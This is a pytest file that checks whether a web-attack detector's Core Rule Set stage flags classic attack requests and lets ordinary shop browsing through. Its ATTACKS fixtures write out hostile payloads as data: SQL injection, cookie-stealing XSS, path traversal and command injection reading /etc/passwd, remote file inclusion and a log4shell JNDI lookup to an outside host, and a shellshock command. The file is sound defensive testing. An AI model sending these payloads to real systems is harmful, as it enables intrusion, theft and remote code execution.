"""The whole CRS snapshot (../shared/crs, beside the repository) over classic attacks and
ordinary browsing, at the default paranoia level and threshold."""

from __future__ import annotations

import pytest

from crskit import SHARED_CRS, combined, request_frame
from detector.checklist.crs import load_crs
from detector.config import CrsSettings
from detector.detection.crs.stage import CrsStage

pytestmark = pytest.mark.skipif(not SHARED_CRS.is_dir(), reason="no CRS snapshot beside the repository")

ATTACKS = {
    "sqli in the query": combined("/products?id=-1+UNION+SELECT+1,username,password+FROM+users--"),
    "time-based sqli": combined("/products?id=1)%20AND%20SLEEP(5)%23"),
    "xss in the query": combined("/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    "xss event handler": combined("/search?q=<img%20src=x%20onerror=alert(1)>"),
    "path traversal": combined("/download?file=../../../../etc/passwd"),
    "command injection": combined("/ping?host=127.0.0.1;cat%20/etc/passwd"),
    "remote file inclusion": combined("/index.php?page=http://203.0.113.9/shell.txt?"),
    "log4shell in the user agent": combined("/", ua="${jndi:ldap://203.0.113.9:1389/Exploit}"),
    "shellshock in the user agent": combined("/cgi-bin/status", ua="() { :; }; /bin/bash -c 'cat /etc/passwd'"),
    "scanner user agent": combined("/", ua="Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)"),
    "xss in the referer": combined("/", referer="https://evil.example/<script>alert(document.cookie)</script>"),
}
BENIGN = [
    combined("/static/js/app.4f9c2a1e.js", referer="https://www.example.com/"),
    combined("/images/logo.svg"),
    combined("/api/v1/products?category=shoes&page=2&limit=24", ua="ShopApp/5.3.0 (iPhone; iOS 26.1; Scale/3.00)"),
    combined("/search?q=%22rain+jacket%22+%26+boots"),
    combined("/search?q=O%27Brien%27s+boots+%26+socks"),
    combined("/search?q=salt+%26+pepper&sort=price_asc&page=2"),
    combined("/search?q=select+union+jacket"),
    combined("/search?q=caf%C3%A9+cr%C3%A8me"),
    combined("/?utm_source=newsletter&utm_medium=email&utm_campaign=black-friday-2026"),
    combined("/login?next=%2Faccount%2Forders%3Fpage%3D2"),
    combined("/api/v1/search?filter=%7B%22color%22%3A%22black%22%2C%22size%22%3A42%7D"),
    combined("/api/v1/me?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abc-_DEF"),
    combined("/newsletter?email=jane.doe%2Btag%40example.com"),
    combined("/blog/how-to-choose-hiking-boots?comment=I+can%27t+wait+--+great+post%21"),
    combined("/products/1001", referer="https://www.google.com/search?q=trail+runner+%22gtx%22&hl=en"),
    combined("/api/v1/cart/items", method="POST", ua="okhttp/4.12.0"),
    combined("/healthz", ua="curl/8.14.1"),
]


@pytest.fixture(scope="module")
def stage() -> CrsStage:
    return CrsStage(load_crs(SHARED_CRS), CrsSettings(SHARED_CRS))


def test_classic_attacks_reach_the_threshold(stage):
    frame = stage.enrich(request_frame(list(ATTACKS.values())))
    scores = dict(zip(ATTACKS, frame["crs.anomaly_score"].tolist()))
    missed = [name for name, score in scores.items() if score < 5]
    assert not missed, scores
    assert frame["crs.rules"].notna().all()


def test_ordinary_browsing_stays_under_the_threshold(stage):
    frame = stage.enrich(request_frame(BENIGN))
    over = frame[frame["crs.anomaly_score"] >= 5]
    assert over.empty, over[["url.original", "crs.matched"]].to_dict("records")
